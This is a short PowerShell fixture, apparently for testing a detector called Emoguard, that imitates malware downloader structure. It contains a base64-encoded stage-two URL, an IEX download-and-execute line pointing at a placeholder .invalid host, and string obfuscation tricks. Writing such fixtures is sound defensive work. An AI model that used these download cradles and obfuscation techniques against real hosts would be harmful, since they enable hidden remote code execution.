# Fixture for Emoguard: PowerShell downloader structure, harmless (example.invalid only).
$u = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aHR0cDovL3BzLmV4YW1wbGUuaW52YWxpZC9zdGFnZTIucHMx'))
IEX (New-Object Net.WebClient).DownloadString('http://ps.example.invalid/stage1.ps1')
$c = [char]72+[char]105
$w = ('{1}{0}' -f 'Host','Write-')
& $w $c
$p = 'llehsrewop'[-1..-10] -join ''
